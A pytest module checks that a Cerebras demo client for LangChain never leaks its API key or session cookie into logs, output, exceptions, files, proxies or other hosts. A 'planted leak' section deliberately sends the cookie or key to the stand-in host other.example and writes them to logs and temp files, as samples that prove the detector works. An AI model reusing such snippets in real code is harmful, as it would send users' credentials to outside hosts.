"""A key and a cookie travel through everything that works and everything that fails, and come out nowhere but where they belong.

Both are globals, as ``tests.support.leaks`` wants it, and so are the answers that repeat them: tests are given names alone.
"""

from __future__ import annotations

import asyncio
import base64
import gc
import logging
import os
import sys
import tempfile
import traceback
from contextlib import contextmanager, nullcontext
from types import SimpleNamespace
from urllib.parse import quote

import orjson
import pytest
from langchain_core.prompts import ChatPromptTemplate
from pydantic import SecretStr

from langchain_cerebras_demo import ChatCerebrasDemo
from langchain_cerebras_demo import errors as ours
from langchain_cerebras_demo.client.attempt import Attempt
from langchain_cerebras_demo.client.client import Client
from langchain_cerebras_demo.keys import (
    CallableKey,
    ChainKeyResolver,
    EnvKey,
    SessionCookieKey,
    StaticKey,
)
from langchain_cerebras_demo.keys.cookies import Cookie
from langchain_cerebras_demo.keys.secret import DemoKey, HiddenCookie, HiddenKey, Secret
from langchain_cerebras_demo.net.transport import HttpRequest
from langchain_cerebras_demo.testing import (
    CutAfter,
    Disconnect,
    Endless,
    ErrorEvent,
    Gate,
    HtmlPage,
    LoopbackCerebras,
    RawAnswer,
    RawBytes,
    Redirect,
    Silence,
    Status,
)
from langchain_cerebras_demo.wire.completion import CompletionDecoder
from tests.support.processes import STRICT, run_command
from tests.support.sinks import (
    COOKIE,
    COOKIE_WAYS,
    KEY,
    LONG,
    NAME,
    SECRETS,
    WAYS,
    Sinks,
    arrived,
    browser,
    forms_of,
    give_key,
    model,
    outcome,
    read_browser,
    watching,
)
from tests.support.tls import LoopbackTLS
from tests.support.virtual_time import jumping

# A request that is given up before its answer has come leaves aiohttp saying good-bye by TLS, and the loop of these calls
# ends sooner: that is not what is looked for here.
pytestmark = pytest.mark.filterwarnings(
    "ignore:.*unclosed:pytest.PytestUnraisableExceptionWarning",
    "ignore:.*_SelectorTransport:pytest.PytestUnraisableExceptionWarning",
    "ignore:.*socket:pytest.PytestUnraisableExceptionWarning",
    "ignore:unclosed:ResourceWarning",
)

JSON = {"content-type": "application/json"}


def one_of(first, *others):
    """The first way in every run, all of them in the long one: a tenth of a second each, and a hundred of them."""
    return [first, *(pytest.param(other, marks=pytest.mark.long) for other in others)]


ELSEWHERE = "https://other.example/login"


@pytest.fixture(scope="module", autouse=True)
def _swept():
    """What these tests leave is collected here, under their own filters, and not in the middle of somebody else's test."""
    yield
    gc.collect()


@pytest.fixture(scope="module")
def tls():
    return LoopbackTLS()


@pytest.fixture
def watch(tls, tmp_path, tmp_path_factory, monkeypatch, capfd):
    """``watching``, with a temporary folder, a cookie file outside of it, and what is printed."""
    cookie_file = tmp_path_factory.mktemp("given") / "cookies.txt"
    cookie_file.write_text(f"inference.cerebras.ai\tFALSE\t/\tTRUE\t0\t{NAME}\t{COOKIE}\n")
    for name in ("TMPDIR", "HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, str(tmp_path))
    for name, value in (("PYTHONASYNCIODEBUG", "1"), ("CEREBRAS_DEMO_BROWSER", "0"), ("SINKS_KEY", KEY)):
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.chdir(tmp_path)

    @contextmanager
    def opened(authority=None):
        with watching(tls, tmp_path, monkeypatch.setenv, authority) as world:
            world.file = cookie_file
            yield world
        world.sinks.take("stdout and stderr", *capfd.readouterr())

    return opened


@pytest.mark.parametrize("way", WAYS)
def test_a_call_that_works_shows_no_secret(watch, way):
    """Whatever the key comes from and however it is asked, it comes to the right host and to nobody else."""
    with watch() as world:
        assert not isinstance(outcome(world, WAYS[way]), BaseException)
        assert arrived(world) == ({"key", "cookie"} if way in COOKIE_WAYS else {"key"})
    assert world.sinks.find(SECRETS) == []
    expected = {"logs", "the proxy", "the right host"}
    assert expected | (set() if "provider" in way else {"callbacks", "tracer"}) <= world.sinks.ways()


# -- failures of the API


def no_patience(world, requests):
    """All timeouts are over as soon as so many requests have arrived."""
    return jumping(LONG, after=lambda: world.site.wait_for_requests(requests, LONG))


def echo(status, **words):
    return Status(status, body={"message": "no", "type": "x", "param": "x", "code": "x", **words})


FAILURES = {
    **{
        str(status): (Status(status), ours.APIStatusError)
        for status in (400, 402, 403, 404, 408, 413, 422, 429, 500, 503)
    },
    "silence before the headers": (Silence(before_headers=True), ours.APITimeoutError),
    "silence behind them": (Silence(after=2), ours.APITimeoutError),
    "a cut answer": (CutAfter(events=3), ours.APIError),
    "a reset": (Disconnect("reset"), ours.APIConnectionError),
    "an error event": (ErrorEvent(), ours.InternalServerError),
    "a page": (HtmlPage(), ours.APIResponseValidationError),
    "bad JSON": (RawAnswer(200, JSON, b'{"choices": ['), ours.APIResponseValidationError),
    "a redirect": (Redirect(ELSEWHERE, 307), ours.APIStatusError),
    "an echo in the message": (echo(400, message=f"bad header 'Authorization: Bearer {KEY}'"), ours.BadRequestError),
    "an echo at the end of a long message": (echo(400, message="m" * 1970 + KEY), ours.BadRequestError),
    "an echo in the type": (echo(400, type=KEY), ours.BadRequestError),
    "an echo in the param": (echo(400, param=KEY), ours.BadRequestError),
    "an echo in the code": (echo(401, code=KEY), ours.AuthenticationError),
    "an echo as the id": (echo(400, id=KEY), ours.BadRequestError),
    "an echo as a name": (echo(400, **{KEY: [{KEY: KEY}]}), ours.BadRequestError),
    "an echo in FastAPI's detail": (
        Status(422, body={"detail": [{"loc": ["header", KEY], "msg": KEY}]}),
        ours.UnprocessableEntityError,
    ),
    "an echo in headers": (Status(500, headers={"x-sent": f"Bearer {KEY}", "server": KEY}), ours.InternalServerError),
    "an echo as the request's id": (
        Status(500, headers={"x-request-id": KEY, "inference-id": KEY}),
        ours.APIStatusError,
    ),
    "an echo in times": (Status(429, headers={"retry-after": KEY}), ours.RateLimitError),
    "an echo as text": (RawAnswer(502, {}, b"e" * 280 + KEY.encode()), ours.InternalServerError),
    "an echo in a page": (RawAnswer(502, {}, f"<html><title>{KEY}</title>{KEY}".encode()), ours.InternalServerError),
    "an echo in an event": (ErrorEvent(body={"error": {"message": KEY, "code": KEY, "id": KEY}}), ours.APIError),
    "an echo in bad JSON": (RawAnswer(200, JSON, f'{{"{KEY}": "{KEY}'.encode()), ours.APIResponseValidationError),
    "an echo in odd JSON": (RawAnswer(200, JSON, f'{{"choices": "{KEY}"}}'.encode()), ours.APIResponseValidationError),
    "an echo in the place": (Redirect(f"/{KEY}?{KEY}"), ours.APIStatusError),
    "an echo in the reason": (RawBytes(f"HTTP/1.1 400 {KEY}\r\ncontent-length: 0\r\n\r\n".encode()), ours.APIError),
    "an echo in no HTTP": (RawBytes(f"HTTP/1.1 200 OK\r\nBearer {KEY}\r\n\r\n".encode()), ours.APIError),
}


@pytest.mark.parametrize("way", one_of("a str, invoke", "a resolver, astream", "cookies, astream"))
@pytest.mark.parametrize("case", FAILURES)
def test_a_call_that_fails_shows_no_secret(watch, case, way):
    """Also where the server repeats the key in whatever part of its answer. A redirect is not followed."""
    step, kind = FAILURES[case]
    is_idle = case == "silence behind them" and "invoke" not in way  # a stream that has begun has a short timeout
    with watch() as world:
        world.site.script(step)
        requests = 2 if way in COOKIE_WAYS else 1  # the session is asked before
        with no_patience(world, requests) if "silence" in case and not is_idle else nullcontext():
            error = outcome(world, WAYS[way])
        assert arrived(world) == ({"key", "cookie"} if way in COOKIE_WAYS else {"key"})
        assert world.stranger.requests == []
    # The vault cannot give another key in place of the refused one, and says so.
    assert isinstance(error, RuntimeError if "resolver" in way and kind is ours.AuthenticationError else kind)
    assert world.sinks.find(SECRETS) == []


BUGS = {
    RuntimeError: lambda data: (f"here is {data!r}",),
    TypeError: lambda data: (data.decode(),),
    UnicodeDecodeError: lambda data: ("utf-8", data, 0, 1, "x"),
    orjson.JSONDecodeError: lambda data: ("bad", data.decode(), 3),
}


@pytest.mark.parametrize("way", ["a str, invoke", "a resolver, astream", "the provider's key", "cookies, astream"])
@pytest.mark.parametrize("bug", BUGS)
def test_a_bug_of_ours_shows_no_secret(watch, monkeypatch, bug, way):
    """The traceback keeps its lines; what their variables held, an answer that repeats the key, is gone."""

    def read_with_a_bug(self, data, what):
        raise bug(*BUGS[bug](data))

    monkeypatch.setattr(CompletionDecoder, "_to_object", read_with_a_bug)
    with watch() as world:
        world.site.script(RawAnswer(200, JSON, f'{{"choices": [], "id": "{KEY}"}}'.encode()))
        error = outcome(world, WAYS[way])
    assert isinstance(error, bug)
    assert "raise bug(" in "".join(traceback.format_exception(error))
    assert world.sinks.find(SECRETS) == []


def test_a_bug_of_ours_shows_no_secret_where_models_are_listed(watch, monkeypatch):
    """It is another way through the client, with the same key."""

    def read_with_a_bug(self, response, limit, begin=b""):
        raise RuntimeError(f"here is {self._request.secret_headers()}")

    monkeypatch.setattr(Attempt, "_read_all", read_with_a_bug)
    with watch() as world:
        error = outcome(world, lambda world: model(world)(api_key=KEY).alist_models())
        assert arrived(world) == {"key"}
    assert isinstance(error, RuntimeError)
    assert "raise RuntimeError(" in "".join(traceback.format_exception(error))
    assert world.sinks.find(SECRETS) == []


# -- failures of the way there


@pytest.mark.parametrize("way", ["a str, invoke", "the provider's key", "cookies, astream"])
@pytest.mark.parametrize("case", ["nobody listens", "no such name", "a strange certificate", "no proxy"])
def test_a_call_that_never_arrives_shows_no_secret(watch, monkeypatch, case, way):
    """Refused, unknown, not trusted: nothing at all was sent."""
    with watch(LoopbackTLS() if "certificate" in case else None) as world:
        monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9" if case == "no proxy" else "")
        if case == "nobody listens":
            world.resolver.lead_to(9)
        elif case == "no such name":
            world.resolver.forget_names()
        assert isinstance(outcome(world, WAYS[way]), ours.APIConnectionError)
        assert arrived(world) == ({"cookie"} if case == "no proxy" and way in COOKIE_WAYS else set())
    assert world.sinks.find(SECRETS) == []


@pytest.mark.parametrize("way", [way for way in WAYS if ", invoke" not in way and ", stream" not in way])
def test_a_call_that_is_cancelled_shows_no_secret(watch, way):
    """In the middle of the answer, with everything in hand."""
    gate = Gate(after=2)

    async def cancelled(world):
        asking = asyncio.ensure_future(WAYS[way](world))
        assert await asyncio.to_thread(gate.wait_reached)
        asking.cancel()
        await asking

    with watch() as world:
        world.site.script(gate)
        assert isinstance(outcome(world, cancelled), asyncio.CancelledError)
    assert world.sinks.find(SECRETS) == []


# -- failures of the session


def session_answer(status, text, **headers):
    return RawAnswer(status, {**JSON, **headers}, text.encode())


SESSION_FAILURES = {
    "signed out": session_answer(200, "{}"),
    "500": Status(500),
    "a page": HtmlPage(),
    "a redirect": Redirect(ELSEWHERE),
    "a body without end": Endless(200, b'["', f"{COOKIE}{KEY}".encode() * 500, "application/json"),
    "silence": Silence(before_headers=True),
    "a key with a line break": session_answer(200, f'{{"user": {{"demoApiKey": "{KEY}\\n"}}}}'),
    "a key in a list": session_answer(200, f'{{"user": {{"demoApiKey": ["{KEY}"]}}}}'),
    "cut JSON": session_answer(200, f'{{"user": {{"demoApiKey": "{KEY}", "cookie": "{COOKIE}"'),
    "an echo in a body": session_answer(500, f'{{"message": "{COOKIE}", "code": "{COOKIE}"}}'),
    "an echo in headers": session_answer(
        500, "{}", **{"x-sent": COOKIE, "server": COOKIE, "set-cookie": f"a={COOKIE}"}
    ),
    "an echo as the request's id": session_answer(503, "{}", **{"x-request-id": COOKIE}),
    "an echo with 401": session_answer(401, f'"{COOKIE}"', **{"x-sent": COOKIE}),
    "an echo with 429": session_answer(429, f'"{COOKIE}"', **{"x-sent": COOKIE, "retry-after": COOKIE}),
    "an echo in the place": Redirect(f"/{COOKIE}?{COOKIE}"),
    "an echo in no HTTP": RawBytes(f"HTTP/1.1 200 OK\r\nCookie {COOKIE}\r\n\r\n".encode()),
}


@pytest.mark.parametrize("way", one_of("cookies, astream", "cookies, invoke", "a browser, astream"))
@pytest.mark.parametrize("case", SESSION_FAILURES)
def test_a_session_that_fails_shows_no_secret(watch, monkeypatch, case, way):
    """Also if it repeats the cookie, or gives an invalid key; the cookie is sent nowhere else."""
    monkeypatch.setitem(SessionCookieKey.__init__.__kwdefaults__, "timeout", LONG)
    with watch() as world:
        world.site.script_session(SESSION_FAILURES[case])
        with no_patience(world, 1) if case == "silence" else nullcontext():
            assert isinstance(outcome(world, WAYS[way]), ours.CerebrasError)
        assert arrived(world) == {"cookie"}
        assert world.stranger.requests == []
    assert world.sinks.find(SECRETS) == []


# -- objects and the command line


def chain_of(world):
    return ChatPromptTemplate.from_messages(["{x}"]) | model(world)(api_key=KEY).bind(stop=["x"])


OBJECTS = {
    "a model with a key": lambda world: ChatCerebrasDemo(api_key=KEY),
    "a model with cookies": lambda world: ChatCerebrasDemo(cookies={NAME: COOKIE}),
    "a model with a file": lambda world: ChatCerebrasDemo(cookies=str(world.file)),
    "a model with a resolver": lambda world: ChatCerebrasDemo(key_resolver=StaticKey(KEY), api_key=SecretStr(KEY)),
    "a model copied with cookies": lambda world: ChatCerebrasDemo().model_copy(update={"cookies": {NAME: COOKIE}}),
    "a chain": chain_of,
    "a key": lambda world: StaticKey(KEY),
    "a key of the environment": lambda world: EnvKey("SINKS_KEY"),
    "a kept key": lambda world: CallableKey(give_key, keep_for=60),
    "a session": lambda world: SessionCookieKey({NAME: COOKIE}, transport=world.transport),
    "a session of a file": lambda world: SessionCookieKey(world.file, transport=world.transport),
    "a session of a browser": browser,
    "a chain of sources": lambda world: ChainKeyResolver([EnvKey("NONE"), StaticKey(KEY)]),
    "reports": lambda world: ChainKeyResolver([SessionCookieKey({}), StaticKey(KEY)]).explain(),
    "a client": lambda world: Client(keys=StaticKey(KEY), transport=world.transport),
    "a request": lambda world: HttpRequest("GET", ELSEWHERE, secret_headers=Secret(KEY, "x").bearer),
    "a secret": lambda world: Secret(KEY, "x"),
}
HIDDEN = {
    "a key": lambda: HiddenKey(KEY),
    "a demo key": lambda: DemoKey(KEY),
    "a cookie's value": lambda: HiddenCookie(COOKIE),
    "a cookie": lambda: Cookie("inference.cerebras.ai", NAME, HiddenCookie(COOKIE)),
    "sessions": read_browser,
}


@pytest.mark.parametrize("thing", OBJECTS)
def test_no_object_shows_its_secret(watch, thing):
    """Printed, pickled, dumped: after it has been asked for its key, where it can be."""

    async def asked(world):
        made = OBJECTS[thing](world)
        if hasattr(made, "resolve"):
            assert await made.resolve() == KEY
        return made

    with watch() as world:
        outcome(world, asked)
    assert world.sinks.find(SECRETS) == []


@pytest.mark.parametrize("thing", HIDDEN)
def test_no_value_in_a_frame_shows_itself(thing):
    """As long as it is: rich cuts a text to 80 letters, and takes the type off by that."""
    sinks = Sinks()
    sinks.take_printed("printed", HIDDEN[thing]())
    assert sinks.find(SECRETS) == []


@pytest.mark.parametrize(
    ("arguments", "step"),
    [(["ask", "hi"], None), (["ask", "hi"], "an echo in the message"), (["keys"], None), (["keys", "--json"], None)],
)
def test_the_command_line_shows_no_secret(arguments, step):
    """What it prints on both ways, in development mode, in which every warning is said, too."""
    sinks = Sinks()
    with LoopbackCerebras(key=KEY) as site:
        site.script(*[FAILURES[step][0]] if step else [])
        own = {"CEREBRAS_BASE_URL": site.base_url, "CEREBRAS_API_KEY": KEY, "CEREBRAS_DEMO_BROWSER": "0"}
        done = run_command(*arguments, variables={**os.environ, **own}, flags=STRICT)
        assert len(site.requests) == ("ask" in arguments)
    assert done.returncode == (1 if step else 0)
    sinks.take("stdout and stderr", done.stdout, done.stderr)
    assert sinks.find(SECRETS) == []


# -- what would be found


def raise_from_cause(world):
    try:
        raise ValueError(f"refused: {quote(KEY, safe='')}")
    except ValueError as error:
        raise RuntimeError("it failed") from error


def raise_with_attribute(world):
    error = ours.InternalServerError("500", response=ours.ErrorResponse(500, {"x-sent": KEY}, ""))
    raise error


def raise_with_local(world):
    hidden = SimpleNamespace(cookie=COOKIE)
    raise RuntimeError(type(hidden).__name__)


def write_file(world):
    with tempfile.NamedTemporaryFile(delete=False) as file:
        file.write(base64.b64encode(f"Bearer {KEY}".encode()))


async def send_elsewhere(world):
    request = HttpRequest("GET", f"https://other.example/?{quote(COOKIE, safe='')}", environment_proxy=False)
    (await world.transport.send(request)).close()


async def send_through_proxy(world):
    (
        await world.transport.send(HttpRequest("GET", f"http://other.example/{KEY}", proxy=os.environ["HTTPS_PROXY"]))
    ).close()


def call_with(**more):
    return lambda world: model(world)(api_key=KEY, **{name: {"x": KEY} for name in more}).invoke("hi")


PLANTED = {
    "a log record": (lambda world: logging.getLogger("aiohttp.client").debug("sent %s", KEY), "key in logs"),
    "a print": (lambda world: print(orjson.dumps({"key": KEY}).decode()), "key in stdout and stderr"),
    "a line on stderr": (lambda world: print(COOKIE[:60], file=sys.stderr), "cookie in stdout and stderr"),
    "a cause": (raise_from_cause, "key in the exception"),
    "an attribute of an exception": (raise_with_attribute, "key in the exception"),
    "a local variable": (raise_with_local, "cookie in the exception"),
    "a local variable, by rich": (raise_with_local, "cookie in the exception, by rich"),
    "a file": (write_file, "key in the temporary folder"),
    "a byte to another host": (send_elsewhere, "cookie in another host"),
    "a byte through the proxy": (send_through_proxy, "key in the proxy"),
    "a pickle": (lambda world: HttpRequest("GET", ELSEWHERE, body=KEY.encode()), "key in the outcome, pickle"),
    "a dump": (lambda world: ChatCerebrasDemo(model_kwargs={"x": KEY}), "key in the outcome, dumps"),
    "a repr": (lambda world: SimpleNamespace(key=KEY), "key in the outcome, printed"),
    "a callback's metadata": (call_with(metadata=1), "key in callbacks"),
    "a run's metadata": (call_with(metadata=1), "key in tracer"),
    "a cache key": (call_with(model_kwargs=1), "key in cache keys"),
    "a body to the right host": (call_with(model_kwargs=1), "key in the right host"),
}


@pytest.mark.parametrize("leak", PLANTED)
def test_a_planted_leak_is_found(watch, leak):
    """Where it was planted: so that finding nothing means that there is nothing."""
    with watch() as world:
        outcome(world, PLANTED[leak][0])
    assert PLANTED[leak][1] in world.sinks.find(SECRETS)


def test_a_secret_is_known_in_every_form():
    """As it is, percent-encoded, escaped, in base64 at any offset, and cut off at either end."""
    for form in (KEY, quote(KEY, safe=""), quote(KEY).lower(), KEY[:20], KEY[-20:], KEY.replace("/", "\\/")):
        assert any(one in form.encode() for one in forms_of(KEY))
    for before in ("", "a", "ab", "Bearer "):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            assert any(one in encode(f"{before}{KEY}".encode()) for one in forms_of(KEY))
